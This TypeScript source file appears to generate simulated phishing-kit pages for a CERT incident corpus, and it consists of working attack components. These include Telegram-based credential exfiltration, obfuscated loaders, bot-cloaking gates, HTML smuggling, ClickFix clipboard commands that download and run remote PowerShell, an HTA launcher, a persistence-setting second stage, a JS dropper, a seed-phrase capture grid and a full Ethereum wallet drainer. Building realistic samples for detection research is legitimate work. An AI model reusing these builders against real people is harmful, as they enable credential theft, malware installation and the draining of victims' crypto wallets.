import type { Route } from '../../corpus/corpus.js';

/**
 * Shared pieces for the `yz-` pages (a CEE national CERT's incident queue): page shells, inline SVG
 * logos, the obfuscation and exfiltration snippets kits reuse, cloaking gates, wallet-drainer cores and
 * ClickFix command builders. Parts hold no pages; every helper is parametrised so pages still differ.
 */

// ---------------------------------------------------------------- encodings

export const b64 = (s: string | Buffer): string => (typeof s === 'string' ? Buffer.from(s, 'utf8') : s).toString('base64');
export const hex = (s: string): string => Buffer.from(s, 'utf8').toString('hex');
export const codes = (s: string): string => Array.from(s).map((c) => c.charCodeAt(0)).join(',');
/** XOR with a repeating key, then base64: the "encrypted blob" many kits decode at load. */
export const xorB64 = (s: string, key: string): string => {
  const d = Buffer.from(s, 'utf8');
  const k = Buffer.from(key, 'utf8');
  return Buffer.from(d.map((b, i) => b ^ (k[i % k.length] ?? 0))).toString('base64');
};
/** Splits a string into chunks of n for `['..','..'].join('')` style concealment. */
export const chunks = (s: string, n: number): string[] => {
  const out: string[] = [];
  for (let i = 0; i < s.length; i += n) out.push(s.slice(i, i + n));
  return out;
};
export const joinExpr = (s: string, n = 7): string => `[${chunks(s, n).map((c) => JSON.stringify(c)).join(',')}].join('')`;
export const reverseExpr = (s: string): string => `${JSON.stringify(Array.from(s).reverse().join(''))}.split('').reverse().join('')`;
export const utf16b64 = (s: string): string => Buffer.from(s, 'utf16le').toString('base64');
export const esc = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

// ---------------------------------------------------------------- shells

export type Shell = { lang: string; title: string; body: string; css?: string; head?: string; tail?: string; bodyAttr?: string; noindex?: boolean };

export function doc(o: Shell): string {
  return `<!DOCTYPE html>
<html lang="${o.lang}">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
${o.noindex ? '<meta name="robots" content="noindex, nofollow">\n' : ''}<title>${o.title}</title>
${o.head ?? ''}${o.css ? `<style>\n${o.css}\n</style>` : ''}
</head>
<body${o.bodyAttr ? ' ' + o.bodyAttr : ''}>
${o.body}
${o.tail ?? ''}
</body>
</html>`;
}

/** A small stylesheet for login cards; the colour and font vary per brand. */
export const cardCss = (accent: string, opts: { font?: string; bg?: string; radius?: number; width?: number } = {}): string => `*{box-sizing:border-box}
body{margin:0;font-family:${opts.font ?? '"Segoe UI",Roboto,Arial,sans-serif'};background:${opts.bg ?? '#f2f4f7'};color:#1d1d1f}
.top{background:#fff;border-bottom:1px solid #e2e5ea;padding:14px 28px;display:flex;align-items:center;justify-content:space-between}
.card{max-width:${opts.width ?? 420}px;margin:48px auto;background:#fff;border-radius:${opts.radius ?? 8}px;box-shadow:0 2px 18px rgba(0,0,0,.08);padding:32px 36px}
.card h1{font-size:22px;margin:0 0 18px;font-weight:600}
label{display:block;font-size:13px;color:#555;margin:14px 0 6px}
input[type=text],input[type=password],input[type=tel],input[type=email],input[type=number],select{width:100%;padding:11px 12px;border:1px solid #c9ced6;border-radius:4px;font-size:15px}
input:focus{outline:none;border-color:${accent}}
.btn{display:block;width:100%;margin-top:22px;padding:12px;background:${accent};color:#fff;border:0;border-radius:4px;font-size:15px;font-weight:600;cursor:pointer}
.muted{color:#6b7280;font-size:12px}
.err{color:#c00;font-size:13px;display:none;margin-top:8px}
.foot{text-align:center;font-size:12px;color:#8a8f98;margin:30px 0}
.hide{display:none}
.spin{width:36px;height:36px;border:4px solid #ddd;border-top-color:${accent};border-radius:50%;animation:r 1s linear infinite;margin:24px auto}
@keyframes r{to{transform:rotate(360deg)}}`;

/** Site chrome for the ordinary pages: header with nav, main, footer. */
export function site(o: { lang: string; title: string; brand: string; color: string; nav: string[]; main: string; footer: string; css?: string; head?: string; tail?: string }): string {
  return doc({
    lang: o.lang,
    title: o.title,
    head: o.head,
    tail: o.tail,
    css: `body{margin:0;font-family:-apple-system,"Segoe UI",Roboto,Helvetica,Arial,sans-serif;color:#222;line-height:1.55;background:#fff}
header{background:${o.color};color:#fff}
header .in{max-width:1080px;margin:0 auto;padding:12px 20px;display:flex;gap:28px;align-items:center}
header a{color:#fff;text-decoration:none;font-size:14px}
header .brand{font-weight:700;font-size:20px;margin-right:auto}
main{max-width:1080px;margin:0 auto;padding:28px 20px}
footer{border-top:1px solid #e5e5e5;color:#777;font-size:13px;padding:22px 20px;max-width:1080px;margin:40px auto 0}
h1{font-size:30px;line-height:1.25}
pre,code{background:#f4f4f4;border-radius:4px;font-family:Consolas,Menlo,monospace;font-size:13px}
pre{padding:12px;overflow:auto}
.btn{display:inline-block;background:${o.color};color:#fff;padding:10px 18px;border-radius:4px;text-decoration:none;border:0;font-size:15px;cursor:pointer}
table{border-collapse:collapse}td,th{border-bottom:1px solid #eee;padding:8px 10px;text-align:left}
${o.css ?? ''}`,
    body: `<header><div class="in"><span class="brand">${o.brand}</span>${o.nav.map((n) => `<a href="/${n.toLowerCase().replace(/[^a-z0-9]+/g, '-')}">${n}</a>`).join('')}</div></header>
<main>
${o.main}
</main>
<footer>${o.footer}</footer>`,
  });
}

// ---------------------------------------------------------------- logos

/** Inline SVG wordmark: a coloured mark and the name. */
export function logo(name: string, color: string, opts: { mark?: 'square' | 'circle' | 'flame' | 'lion' | 'leaf' | 'none'; textColor?: string; w?: number; bg?: string } = {}): string {
  const w = opts.w ?? 40 + name.length * 11;
  const mark =
    opts.mark === 'circle'
      ? `<circle cx="16" cy="18" r="13" fill="${color}"/>`
      : opts.mark === 'flame'
        ? `<path d="M16 4c5 6 8 9 8 15a8 8 0 0 1-16 0c0-4 3-6 4-10 1 3 2 4 4 5 0-4-1-7 0-10z" fill="${color}"/>`
        : opts.mark === 'lion'
          ? `<path d="M4 26c4-9 9-14 16-14 3 0 6 2 8 5l-4 2c2 2 2 5 0 7z" fill="${color}"/>`
          : opts.mark === 'leaf'
            ? `<path d="M6 28C6 14 14 6 28 6c0 14-8 22-22 22z" fill="${color}"/>`
            : opts.mark === 'none'
              ? ''
              : `<rect x="3" y="5" width="26" height="26" rx="4" fill="${color}"/>`;
  const x = opts.mark === 'none' ? 2 : 36;
  return `<svg xmlns="http://www.w3.org/2000/svg" width="${w}" height="36" viewBox="0 0 ${w} 36" role="img" aria-label="${name}">${opts.bg ? `<rect width="${w}" height="36" fill="${opts.bg}"/>` : ''}${mark}<text x="${x}" y="25" font-family="Arial,Helvetica,sans-serif" font-weight="700" font-size="19" fill="${opts.textColor ?? color}">${name}</text></svg>`;
}

/** A data: URL of an SVG logo (for <img src> and favicons). */
export const logoData = (svg: string): string => `data:image/svg+xml;base64,${b64(svg)}`;

// ---------------------------------------------------------------- exfiltration snippets

/** Telegram Bot API sender; the token and chat id are given as JS expressions (so callers choose how to hide them). */
export const tgSender = (fn: string, tokenExpr: string, chatExpr: string): string =>
  `function ${fn}(msg){var u='https://api.telegram.org/bot'+(${tokenExpr})+'/sendMessage';return fetch(u,{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:(${chatExpr}),text:msg,parse_mode:'HTML'})}).catch(function(){})}`;

/** Visitor fingerprint the kits attach to each message (IP from a lookup service, UA, time). */
export const visitorInfo = (fn: string): string =>
  `async function ${fn}(){var o={ua:navigator.userAgent,lang:navigator.language,t:new Date().toISOString()};try{var r=await fetch('https://api.ipify.org?format=json');o.ip=(await r.json()).ip}catch(e){o.ip='?'}return o}`;

/** Collects every named field of a form into an object. */
export const formGrab = (fn: string): string => `function ${fn}(f){var o={};for(var i=0;i<f.elements.length;i++){var e=f.elements[i];if(e.name)o[e.name]=e.value}return o}`;

/** A kit's stepper: shows one `.step` section after another. */
export const stepper = (fn: string): string => `function ${fn}(n){document.querySelectorAll('.step').forEach(function(s,i){s.style.display=(i===n)?'block':'none'})}`;

// ---------------------------------------------------------------- loaders

/** An HTML document kept as a XOR-encrypted blob and written into the page at load. */
export const xorLoader = (html: string, key: string, opts: { keyExpr?: string; via?: 'write' | 'inner' } = {}): string => {
  const blob = xorB64(html, key);
  const k = opts.keyExpr ?? JSON.stringify(key);
  const out = opts.via === 'inner' ? `document.documentElement.innerHTML=s` : `document.open();document.write(s);document.close()`;
  return `<script>(function(){var d=atob(${JSON.stringify(blob)}),k=${k},b=new Uint8Array(d.length);for(var i=0;i<d.length;i++)b[i]=d.charCodeAt(i)^k.charCodeAt(i%k.length);var s=new TextDecoder().decode(b);${out}})();</script>`;
};

/** Base64 HTML written in by document.write, the most common kit wrapper. */
export const b64Writer = (html: string, fn = 'atob'): string => `<script>document.write(decodeURIComponent(escape(window["${fn}"]("${b64(html)}"))));</script>`;

/** Script text turned into a char-code array run through Function. */
export const codeRunner = (js: string): string => `<script>(function(c){return Function(String.fromCharCode.apply(null,c))})([${codes(js)}])();</script>`;

/**
 * A bot/sandbox gate: a visitor that looks automated (webdriver, headless UA, no plugins, tiny screen,
 * wrong language) gets `decoy` (a JS statement), a human `pass` (a JS statement).
 */
export const botGate = (pass: string, decoy: string, langs: string[]): string =>
  `<script>(function(){var n=navigator,ua=n.userAgent||'';var bad=n.webdriver||/HeadlessChrome|PhantomJS|bot|crawl|spider|Lighthouse|curl|python/i.test(ua)||(n.plugins&&n.plugins.length===0&&!/Mobile|Android|iPhone/.test(ua))||screen.width<300;var okLang=${JSON.stringify(langs)}.some(function(l){return (n.language||'').toLowerCase().indexOf(l)===0});if(bad||!okLang){${decoy}}else{${pass}}})();</script>`;

// ---------------------------------------------------------------- HTML smuggling

/** Builds an in-page Blob from base64 and saves it under `filename` (optionally after a delay or click). */
export const smuggle = (payload: Buffer, filename: string, mime: string, opts: { trigger?: 'load' | 'click'; id?: string; split?: number } = {}): string => {
  const data = payload.toString('base64');
  const parts = chunks(data, opts.split ?? 76).map((c) => JSON.stringify(c));
  const save = `var s=atob(p.join('')),u=new Uint8Array(s.length);for(var i=0;i<s.length;i++)u[i]=s.charCodeAt(i);var bl=new Blob([u],{type:'${mime}'});var a=document.createElement('a');a.href=URL.createObjectURL(bl);a.download='${filename}';document.body.appendChild(a);a.click();setTimeout(function(){URL.revokeObjectURL(a.href)},4000);`;
  const body = `var p=[\n${parts.join(',\n')}\n];`;
  return opts.trigger === 'click'
    ? `<script>${body}document.getElementById('${opts.id ?? 'dl'}').addEventListener('click',function(e){e.preventDefault();${save}});</script>`
    : `<script>${body}window.addEventListener('load',function(){setTimeout(function(){${save}},900)});</script>`;
};

// ---------------------------------------------------------------- ClickFix

export type CfStyle = 'iwr' | 'mshta' | 'curl' | 'enc' | 'bitsadmin' | 'finger';

/** The command a ClickFix page puts on the clipboard, with a comment that poses as a verification id. */
export function cfCommand(style: CfStyle, url: string, note: string): string {
  switch (style) {
    case 'iwr':
      return `powershell -w h -nop -c "$r=iwr '${url}' -UseBasicParsing;iex $r.Content" # ${note}`;
    case 'mshta':
      return `mshta ${url} # ${note}`;
    case 'curl':
      return `cmd /c "curl -s -o %TEMP%\\s.ps1 ${url} && powershell -ep bypass -w hidden -f %TEMP%\\s.ps1" :: ${note}`;
    case 'enc':
      return `powershell -nop -w hidden -enc ${utf16b64(`iex (New-Object Net.WebClient).DownloadString('${url}')`)} # ${note}`;
    case 'bitsadmin':
      return `cmd /c bitsadmin /transfer j /download /priority high ${url} %PUBLIC%\\upd.exe & start %PUBLIC%\\upd.exe & rem ${note}`;
    case 'finger':
      return `cmd /c "finger vrf@${new URL(url).hostname} | cmd" & rem ${note}`;
  }
}

/** Clipboard writer with the execCommand fallback ClickFix kits carry. */
export const clipJs = (fn: string, cmdExpr: string): string =>
  `function ${fn}(){var t=${cmdExpr};if(navigator.clipboard&&window.isSecureContext){navigator.clipboard.writeText(t).catch(function(){})}var ta=document.createElement('textarea');ta.value=t;ta.style.position='fixed';ta.style.opacity='0';document.body.appendChild(ta);ta.select();try{document.execCommand('copy')}catch(e){}document.body.removeChild(ta)}`;

/** A second-stage PowerShell script a ClickFix page's command fetches. */
export const psStage = (exeUrl: string, name: string): string => `$ErrorActionPreference='SilentlyContinue'
$d = Join-Path $env:APPDATA '${name}'
New-Item -ItemType Directory -Force -Path $d | Out-Null
$z = Join-Path $d 'pkg.zip'
(New-Object Net.WebClient).DownloadFile('${exeUrl}', $z)
Expand-Archive -Path $z -DestinationPath $d -Force
$e = Get-ChildItem $d -Filter *.exe | Select-Object -First 1
Start-Process $e.FullName -WindowStyle Hidden
New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name '${name}' -Value $e.FullName -PropertyType String -Force | Out-Null
`;

export const hta = (psUrl: string): string => `<html><head><HTA:APPLICATION ID="x" WINDOWSTATE="minimize" SHOWINTASKBAR="no"/>
<script language="VBScript">
Set s = CreateObject("WScript.Shell")
s.Run "powershell -nop -w hidden -c ""iex(iwr '${psUrl}' -UseBasicParsing)""", 0, False
self.close
</script></head><body></body></html>`;

// ---------------------------------------------------------------- wallet drainers

export type DrainMode = 'nft' | 'erc20' | 'permit' | 'native' | 'permit2';

/**
 * A drainer core: connects the injected wallet, asks the kit's backend what the wallet holds, then
 * fires approve / setApprovalForAll / permit signatures / a native transfer towards `spender`, and
 * reports every step to `report`. Selectors are hand-encoded as kits do (no library).
 */
export function drainerJs(o: { spender: string; report: string; modes: DrainMode[]; chainHex?: string; fn?: string }): string {
  const fn = o.fn ?? 'claim';
  const pad = `function p32(h){h=h.replace(/^0x/,'');return '0'.repeat(64-h.length)+h}`;
  const steps: string[] = [];
  if (o.modes.includes('nft'))
    steps.push(`for(const c of (inv.nfts||[])){await rq('eth_sendTransaction',[{from:acc,to:c,data:'0xa22cb465'+p32(SP)+p32('1')}]);rep('nft',c)}`);
  if (o.modes.includes('erc20'))
    steps.push(`for(const t of (inv.tokens||[])){await rq('eth_sendTransaction',[{from:acc,to:t.address,data:'0x095ea7b3'+p32(SP)+'f'.repeat(64)}]);rep('approve',t.address)}`);
  if (o.modes.includes('permit'))
    steps.push(`for(const t of (inv.permit||[])){const msg={types:{EIP712Domain:[{name:'name',type:'string'},{name:'version',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],Permit:[{name:'owner',type:'address'},{name:'spender',type:'address'},{name:'value',type:'uint256'},{name:'nonce',type:'uint256'},{name:'deadline',type:'uint256'}]},primaryType:'Permit',domain:{name:t.name,version:t.version||'1',chainId:parseInt(cid,16),verifyingContract:t.address},message:{owner:acc,spender:SP,value:'115792089237316195423570985008687907853269984665640564039457584007913129639935',nonce:t.nonce||0,deadline:Math.floor(Date.now()/1e3)+864e3}};const sig=await rq('eth_signTypedData_v4',[acc,JSON.stringify(msg)]);rep('permit',{t:t.address,sig})}`);
  if (o.modes.includes('permit2'))
    steps.push(`{const msg={types:{EIP712Domain:[{name:'name',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],PermitBatch:[{name:'details',type:'PermitDetails[]'},{name:'spender',type:'address'},{name:'sigDeadline',type:'uint256'}],PermitDetails:[{name:'token',type:'address'},{name:'amount',type:'uint160'},{name:'expiration',type:'uint48'},{name:'nonce',type:'uint48'}]},primaryType:'PermitBatch',domain:{name:'Permit2',chainId:parseInt(cid,16),verifyingContract:'0x000000000022D473030F116dDEE9F6B43aC78BA3'},message:{details:(inv.tokens||[]).map(function(t){return{token:t.address,amount:'1461501637330902918203684832716283019655932542975',expiration:'1893456000',nonce:0}}),spender:SP,sigDeadline:'1893456000'}};const sig=await rq('eth_signTypedData_v4',[acc,JSON.stringify(msg)]);rep('permit2',sig)}`);
  if (o.modes.includes('native'))
    steps.push(`{const bal=BigInt(await rq('eth_getBalance',[acc,'latest']));const keep=BigInt('3000000000000000');if(bal>keep){await rq('eth_sendTransaction',[{from:acc,to:SP,value:'0x'+(bal-keep).toString(16)}]);rep('native',(bal-keep).toString())}}`);
  return `${pad}
const SP='${o.spender}';
function rq(m,p){return window.ethereum.request({method:m,params:p})}
function rep(k,v){try{navigator.sendBeacon('${o.report}',JSON.stringify({k:k,v:v,a:window._acc,h:location.host}))}catch(e){}}
async function ${fn}(){
  if(!window.ethereum){alert('Please open this page in your wallet browser (MetaMask / Trust Wallet).');return}
  const accs=await rq('eth_requestAccounts',[]);const acc=accs[0];window._acc=acc;
  let cid=await rq('eth_chainId',[]);${o.chainHex ? `if(cid!=='${o.chainHex}'){try{await rq('wallet_switchEthereumChain',[{chainId:'${o.chainHex}'}]);cid='${o.chainHex}'}catch(e){}}` : ''}
  rep('connect',cid);
  let inv={};try{inv=await (await fetch('${o.report.replace(/\/[^/]*$/, '/inv')}?a='+acc+'&c='+cid)).json()}catch(e){}
  try{
    ${steps.join('\n    ')}
  }catch(e){rep('reject',String(e&&e.message||e))}
}`;
}

/** The seed-phrase grid a "wallet validation" page shows (12/18/24 words). */
export const seedGrid = (n: number, placeholder: (i: number) => string): string =>
  Array.from({ length: n }, (_, i) => `<input type="text" name="w${i + 1}" autocomplete="off" spellcheck="false" placeholder="${placeholder(i + 1)}">`).join('\n');

// ---------------------------------------------------------------- routes

export const textRoute = (body: string, type = 'text/plain; charset=utf-8', extra: Record<string, string> = {}): Route => ({ status: 200, headers: { 'content-type': type, ...extra }, body });

/** A JS dropper for a ZIP "invoice": WScript downloads and runs a second stage. */
export const jsDropper = (url: string, exe: string, junk: string): string => {
  const u = chunks(url, 5).map((c) => `"${c}"`).join('+');
  return `// ${junk}
var ${junk.slice(0, 3)}a = new ActiveXObject("WScript.Shell");
var ${junk.slice(0, 3)}b = new ActiveXObject("MSXML2.ServerXMLHTTP.6.0");
var ${junk.slice(0, 3)}u = ${u};
${junk.slice(0, 3)}b.open("GET", ${junk.slice(0, 3)}u, false); ${junk.slice(0, 3)}b.send();
var st = new ActiveXObject("ADODB.Stream"); st.Type = 1; st.Open(); st.Write(${junk.slice(0, 3)}b.responseBody);
var p = ${junk.slice(0, 3)}a.ExpandEnvironmentStrings("%TEMP%") + "\\\\${exe}";
st.SaveToFile(p, 2); st.Close();
${junk.slice(0, 3)}a.Run(p, 0, false);
`;
};
